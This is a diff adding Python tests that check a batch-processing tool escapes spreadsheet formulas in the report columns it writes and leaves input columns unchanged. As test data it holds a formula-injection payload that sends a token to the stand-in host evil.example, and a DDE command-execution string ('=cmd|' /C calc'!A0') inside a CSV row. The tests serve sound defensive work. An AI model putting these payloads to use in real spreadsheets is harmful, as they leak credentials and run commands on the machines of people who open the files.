@@ -158,3 +158,49 @@ def test_a_token_endpoint_answering_a_control_character_is_auth_failed(field: st
     assert "not shown" in str(info.value) and field in str(info.value) and "secret-77" not in str(info.value)
     assert not token_file.exists()  # a bad rotated refresh token is never stored
 
+
+# -- 16: report cells the tool writes cannot run as spreadsheet formulas ------------------------
+HYPERLINK = '=HYPERLINK("https://evil.example/?t={token}","Click to fix")'
+
+
+def test_a_formula_from_the_platform_is_escaped_and_input_columns_stay_byte_identical(tmp_path: Path) -> None:
+    with HostileServer("echo_token", message=HYPERLINK) as server:
+        job = live_job(tmp_path, SF_JOB, SF_CSV, f'instance_url = "{server.url}"\nauth = {{ method = "env" }}',
+                       limits=LIMITS)
+        source = tmp_path / "data" / SF_CSV
+        lines = source.read_text(encoding="utf-8").splitlines()
+        lines.append('00Q5e0000000005EAA,=1+1,-Dash,"=cmd|\' /C calc\'!A0",@mention@example.com')
+        source.write_text("\n".join(lines) + "\n", encoding="utf-8")
+        done = cli("run", str(job), "--no-progress", cwd=tmp_path, env={"SF_ACCESS_TOKEN": SF_TOKEN})
+    assert done.returncode == 1, done.stderr
+    run_dir = next((tmp_path / "runs").glob("sf-weekly-assign-*"))
+    rows = list(csv.DictReader((run_dir / "results.csv").open(newline="", encoding="utf-8")))
+    messages = [r["_error_message"] for r in rows if r["_error_code"] == "INVALID_INPUT"]
+    assert messages and all(m.startswith("'=HYPERLINK(") for m in messages)
+    assert all("[REDACTED]" in m for m in messages)
+    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r"))
+                   for r in rows for k, v in r.items() if k in ("_error_code", "_error_message", "_result"))
+    # input columns: exactly as read, formulas and all (errors.csv is fed back as the job's input)
+    with source.open(newline="", encoding="utf-8") as f:
+        expected = list(csv.DictReader(f))
+    assert [{k: r[k] for k in expected[0]} for r in rows] == expected
+    assert rows[-1]["First Name"] == "=1+1" and rows[-1]["Company"].startswith("=cmd")
+    raw = (run_dir / "results.csv").read_bytes()
+    assert b",=1+1,-Dash," in raw and b"'=1+1" not in raw and b"'=cmd" not in raw and b"'@mention" not in raw
+    errors = (run_dir / "errors.csv").read_bytes()
+    assert b"'=HYPERLINK(" in errors
+
+
+def test_spreadsheet_safe_escapes_only_the_tools_own_columns() -> None:
+    import polars as pl
+
+    from batchrunner.report import spreadsheet_safe
+
+    starts = ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"]
+    frame = pl.DataFrame({"Input": starts + ["plain"], "_error_code": starts + [None],
+                          "_error_message": starts + ["fine - really"], "_result": starts + ['{"a": 1}']})
+    safe = spreadsheet_safe(frame)
+    assert safe["Input"].to_list() == frame["Input"].to_list()
+    for column in ("_error_code", "_error_message", "_result"):
+        assert safe[column].to_list()[:-1] == ["'" + s for s in starts]
+        assert safe[column].to_list()[-1] == frame[column].to_list()[-1]
